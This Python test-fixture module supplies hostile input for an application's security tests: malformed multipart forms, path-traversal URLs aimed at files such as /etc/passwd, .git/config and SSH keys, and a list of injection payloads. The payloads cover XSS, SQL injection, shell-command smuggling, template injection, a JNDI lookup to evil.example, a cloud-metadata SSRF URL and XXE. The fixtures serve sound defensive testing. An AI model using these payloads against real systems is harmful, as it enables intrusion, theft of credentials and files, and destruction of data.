"""Hostile input: forms, paths and words."""

from collections.abc import Iterator

from model.samples import samples
from tests.api.raw import form

__all__ = ["WORDS", "addresses", "forms"]

PHOTO = samples()[2].read()
TYPE = b"multipart/form-data; boundary=x"
FILE = b'Content-Disposition: form-data; name="photo"; filename="a.jpg"'
GOOD = form(FILE + b"\r\n\r\n" + PHOTO)


def forms() -> Iterator[tuple[str, bytes, bytes]]:
    """Yield malformed forms: name, Content-Type, body. None holds a readable photo."""
    text = FILE + b"\r\n\r\nno photo"
    whole = form(text)
    for name, kind in {
        "no boundary": b"multipart/form-data",
        "empty boundary": b"multipart/form-data; boundary=",
        "another boundary": b"multipart/form-data; boundary=y",
        "a quoted half": b'multipart/form-data; boundary="x',
        "two boundaries": b"multipart/form-data; boundary=y; boundary=z",
        "a long boundary": b"multipart/form-data; boundary=" + b"b" * 10_000,
        "spaces": b"multipart/form-data; boundary= x ",
        "mixed": b"multipart/mixed; boundary=x",
        "a comma": b"multipart/form-data, boundary=x",
        "high bytes": b"multipart/form-data; boundary=\xff\xfe",
        "a star": b"multipart/form-data; boundary*=utf-8''%78%79",
    }.items():
        yield f"boundary: {name}", kind, whole
    # Cut at every byte, so that every state of the parser is covered.
    for cut in range(1, len(whole)):
        yield f"cut after {cut}", TYPE, whole[:cut]
    heads = {
        "none": b"",
        "no name": b"Content-Disposition: form-data",
        "an empty name": b'Content-Disposition: form-data; name=""',
        "no colon": b"Content-Disposition form-data; name=photo",
        "no value": b"Content-Disposition:",
        "not of a form": b'Content-Disposition: attachment; name="photo"; filename="a"',
        "twice": FILE + b"\r\n" + FILE,
        "a null": b'Content-Disposition: form-data; name="pho\x00to"; filename="a"',
        "a bare return": b'Content-Disposition: form-data; name="photo";\r filename="a"',
        "a bare feed": b'Content-Disposition: form-data; name="photo";\n filename="a"',
        "an open quote": b'Content-Disposition: form-data; name="photo; filename="a',
        "a bad encoding": b"Content-Disposition: form-data; name=photo; filename*=utf-8''%ff%fe",
        "no encoding": b"Content-Disposition: form-data; name=photo; filename*=klingon'x'%41",
        "half an escape": b"Content-Disposition: form-data; name=photo; filename*=utf-8''%4",
        "high bytes": b'Content-Disposition: form-data; name="\xff\xfe"; filename="\xc3"',
        "a long name": b'Content-Disposition: form-data; name="' + b"n" * 70_000 + b'"',
        "many headers": FILE + b"".join(b"\r\nX-%d: y" % at for at in range(2000)),
        "a long header": FILE + b"\r\nX: " + b"y" * 200_000,
        "a fold": FILE + b"\r\n folded: yes",
        "an odd charset": FILE + b"\r\nContent-Type: image/jpeg; charset=none-such",
        "a transfer encoding": FILE + b"\r\nContent-Transfer-Encoding: base64",
        "a length": FILE + b"\r\nContent-Length: -5",
    }
    for name, head in heads.items():
        yield f"head: {name}", TYPE, form(head + b"\r\n\r\nno photo")
    field = b'Content-Disposition: form-data; name="%s"\r\n\r\n'
    bodies = {
        "empty": b"",
        "only the end": b"--x--\r\n",
        "two ends": b"--x--\r\n--x--\r\n",
        "only dashes": b"-" * 5000,
        "no blank line": b"--x\r\n" + FILE + b"\r\nno photo\r\n--x--\r\n",
        "feeds alone": GOOD.replace(b"\r\n", b"\n"),
        "returns alone": whole.replace(b"\r\n", b"\r"),
        "text before": b"hello" + whole,
        "nulls before": bytes(100) + whole,
        "a field for the file": form(field % b"photo" + b"no photo"),
        "a huge field": form(field % b"top" + b"9" * 200_000),
        "many fields": form(*[field % b"a" + b"b"] * 500),
        "ten thousand parts": form(*[FILE + b"\r\n\r\n"] * 10_000),
        "two files": form(text, text),
        "an empty file": form(FILE + b"\r\n\r\n"),
        "a form in a form": form(FILE + b"\r\n\r\n" + form(text, boundary=b"y")),
        "a wrong number": form(field % b"top" + b"NaN", text),
        "a wrong model": form(field % b"model" + b"../../x", text),
        "json": b'{"photo": "a"}',
        "random": bytes(range(256)) * 40,
    }
    for name, body in bodies.items():
        yield f"body: {name}", TYPE, body


SECRETS = ("etc/passwd", "bundle.json", "streamlit_app.py", ".git/config", "records.sqlite")
UP = (
    "..",
    "%2e%2e",
    "%2E%2E",
    "..%2f..",
    "%2e%2e%2f%2e%2e",
    "%252e%252e",
    "..%5c..",
    "..\\..",
    "%c0%ae%c0%ae",
    "%ef%bc%8e%ef%bc%8e",
    "....",
    "..%00",
    "..;",
)


def addresses() -> Iterator[str]:
    """Yield paths that would leave their folder."""
    for up in UP:
        for secret in SECRETS:
            yield f"models/{up}/{up}/{up}/{up}/{secret}"
        yield f"models/imagenet/{up}/{up}/settings.py"
        yield f"models/imagenet/000000000000/{up}%2f{up}%2fsettings.py"
    yield from (
        "models//etc/passwd",
        "models/%2fetc%2fpasswd",
        "models/imagenet/000000000000//etc/passwd",
        "models/imagenet%00.json",
        "models/file:%2f%2f%2fetc%2fpasswd",
        "models/C:%5cwindows%5cwin.ini",
        "models/~root/.ssh/id_rsa",
        "models/imagenet/current/graph.onnx",
        "models/.new-abc/x",
        "models/imagenet/../../../../etc/passwd",
        "docs-files/../../../../../../etc/passwd",
        "docs-files/..%2f..%2f..%2fetc%2fpasswd",
        "docs-files/%2e%2e/__init__.py",
    )


WORDS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "<svg/onload=alert(1)>",
    "'; DROP TABLE corrections; --",
    '" OR ""="',
    "1; SELECT pg_sleep(5)",
    "UNION SELECT * FROM sqlite_master",
    "$(touch marker)",
    "`touch marker`",
    "; touch marker",
    "| touch marker",
    "&& touch marker",
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "${jndi:ldap://evil.example/a}",
    "{0.__class__}",
    "%s%s%s%n",
    "%x%x%x",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1+1)",
    "..\\..\\windows",
    "/etc/passwd",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "x\r\nSet-Cookie: a=b",
    "x\r\n\r\n<html>",
    "x\x00y",
    "\u202egpj.exe",
    "\ufeffword",
    "A\u0300" * 100,
    "\U0001f98a",
    "null",
    "__proto__",
    "constructor",
    "*)(uid=*))(|(uid=*",
    '<!--#exec cmd="ls"-->',
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
    "a" * 5000,
)
